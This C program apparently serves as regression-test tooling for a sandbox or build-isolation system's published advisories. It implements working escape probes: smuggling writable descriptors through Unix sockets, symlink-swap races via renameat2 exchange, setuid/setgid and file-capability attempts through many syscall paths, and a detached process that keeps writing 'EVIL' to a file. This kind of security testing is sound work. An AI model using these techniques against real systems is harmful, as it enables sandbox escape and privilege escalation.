/* Hostile builders and their helpers outside, for the tests of published advisories. One program, so that one static file is enough:
     smuggle ABSTRACT PATHNAME OUT TEXT   make OUT with TEXT, hand a writable descriptor of it to whoever listens; say what was possible
     smuggle-directory PATHNAME OUT       make OUT/d, writable for everybody and full of files, and hand out a descriptor of it
     receive abstract|pathname NAME SECONDS   take a descriptor and, once NAME.go exists, write through it for so long
     swap PATHNAME CANARY SECONDS         take a descriptor of a directory and put links to CANARY in the place of its files
     setid OUT                            try every way to get setuid and setgid bits; list those that worked
     attributes OUT                       the same for extended attributes
     hold OUT                             leave a process behind that keeps OUT open, and fail */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static socklen_t address(struct sockaddr_un *a, int abstract, const char *name) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  strncpy(a->sun_path + abstract, name, sizeof a->sun_path - 2);
  return abstract ? offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name) : sizeof *a;
}

static int pass(int abstract, const char *name, int fd) {
  struct sockaddr_un a;
  socklen_t length = address(&a, abstract, name);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (struct sockaddr *)&a, length)) return errno;
  char control[CMSG_SPACE(sizeof fd)] = {0}, byte = 'x';
  struct iovec v = {&byte, 1};
  struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(c), &fd, sizeof fd);
  if (sendmsg(s, &m, 0) < 0) return errno;
  read(s, &byte, 1); /* until the other side has it */
  return 0;
}

static int take(int abstract, const char *name) {
  struct sockaddr_un a;
  socklen_t length = address(&a, abstract, name);
  int l = socket(AF_UNIX, SOCK_STREAM, 0), fd = -1;
  if (bind(l, (struct sockaddr *)&a, length) || listen(l, 5)) { perror("listen"); exit(2); }
  if (!abstract) chmod(name, 0777);
  puts("ready"), fflush(stdout);
  struct pollfd p = {l, POLLIN, 0};
  if (poll(&p, 1, 60000) <= 0) { puts("nobody came"); exit(0); }
  int s = accept(l, 0, 0);
  char control[CMSG_SPACE(sizeof fd)] = {0}, byte;
  struct iovec v = {&byte, 1};
  struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) { puts("nothing came"); exit(0); }
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
  puts("taken"), fflush(stdout);
  write(s, "x", 1);
  return fd;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static void worked(const char *what, long result) {
  if (result >= 0) puts(what);
}

static long call32(long number, const char *path, long mode) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(path), "c"(mode) : "memory");
  return result;
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "smuggle")) {
    int fd = open(argv[4], O_RDWR | O_CREAT, 0644);
    if (fd < 0 || write(fd, argv[5], strlen(argv[5])) < 0) return 3;
    printf("abstract %d\n", pass(1, argv[2], fd));
    printf("pathname %d\n", pass(0, argv[3], fd));
  } else if (!strcmp(mode, "smuggle-directory")) {
    char name[4096];
    mkdir(argv[3], 0755);
    snprintf(name, sizeof name, "%s/d", argv[3]);
    mkdir(name, 0777), chmod(name, 0777);
    int d = open(name, O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 3000; i++) {
      snprintf(name, sizeof name, "f%d", i);
      close(openat(d, name, O_CREAT | O_WRONLY, 0644));
    }
    printf("pathname %d\n", pass(0, argv[2], d));
  } else if (!strcmp(mode, "receive")) {
    int fd = take(!strcmp(argv[2], "abstract"), argv[3]);
    char go[4096];
    snprintf(go, sizeof go, "%s.go", argv[3]);
    for (double end = now() + 60; now() < end && access(go, F_OK); usleep(1000));
    long writes = 0;
    for (double end = now() + atof(argv[4]); now() < end; usleep(200)) writes += pwrite(fd, "EVIL", 4, 0) == 4;
    printf("wrote %ld\n", writes);
  } else if (!strcmp(mode, "swap")) {
    int d = take(0, argv[2]);
    char name[64], link[64];
    long swaps = 0;
    for (double end = now() + atof(argv[4]); now() < end;)
      for (int i = 0; i < 3000; i++) {
        snprintf(name, sizeof name, "f%d", i), snprintf(link, sizeof link, "l%d", i);
        symlinkat(argv[3], d, link);
        swaps += !syscall(SYS_renameat2, d, name, d, link, 2 /* exchange */);
      }
    printf("swapped %ld\n", swaps);
  } else if (!strcmp(mode, "setid")) {
    const char *out = argv[2];
    int f = open(out, O_CREAT | O_RDWR, 0755), bits[] = {04755, 02755, 06755};
    uint64_t how[3] = {O_CREAT | O_RDWR, 06755, 0};
    char params[120] = {0};
    for (int i = 0; i < 3; i++) {
      worked("chmod", chmod(out, bits[i]));
      worked("fchmod", fchmod(f, bits[i]));
      worked("fchmodat", fchmodat(AT_FDCWD, out, bits[i], 0));
      worked("fchmodat2", syscall(452, AT_FDCWD, out, bits[i], 0));
      worked("open", open("open", O_CREAT | O_RDWR, bits[i]));
      worked("creat", syscall(SYS_creat, "creat", bits[i]));
      worked("openat", openat(AT_FDCWD, "openat", O_CREAT | O_RDWR, bits[i]));
      worked("temporary file", open(".", O_TMPFILE | O_RDWR, bits[i]));
      worked("mkdir", mkdir("mkdir", bits[i]));
      worked("mkdirat", mkdirat(AT_FDCWD, "mkdirat", bits[i]));
      worked("mknod", mknod("mknod", S_IFREG | bits[i], 0));
      worked("mknodat", mknodat(AT_FDCWD, "mknodat", S_IFREG | bits[i], 0));
      worked("32-bit chmod", call32(15, out, bits[i]) < 0 ? -1 : 0);
      worked("32-bit mkdir", call32(39, "mkdir32", bits[i]) < 0 ? -1 : 0);
    }
    worked("openat2", syscall(437, AT_FDCWD, "openat2", how, 24));
    worked("io_uring", syscall(425, 4, params));
    worked("a call of the future", syscall(999));
  } else if (!strcmp(mode, "attributes")) {
    int f = open(argv[2], O_CREAT | O_RDWR, 0644);
    worked("setxattr", setxattr(argv[2], "user.x", "y", 1, 0));
    worked("lsetxattr", lsetxattr(argv[2], "user.x", "y", 1, 0));
    worked("fsetxattr", fsetxattr(f, "user.x", "y", 1, 0));
    worked("setxattrat", syscall(463, AT_FDCWD, argv[2], 0, "user.x", "y", 1));
    worked("access list", setxattr(argv[2], "system.posix_acl_access", "\2\0\0\0", 4, 0));
    worked("file capability", setxattr(argv[2], "security.capability", "\1\0\0\2\0\4\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
  } else if (!strcmp(mode, "hold")) {
    int f = open(argv[2], O_CREAT | O_RDWR, 0644);
    if (!fork()) {
      setsid();
      for (;;) pwrite(f, "EVIL", 4, 0), usleep(1000);
    }
    return 1;
  }
  return 0;
}
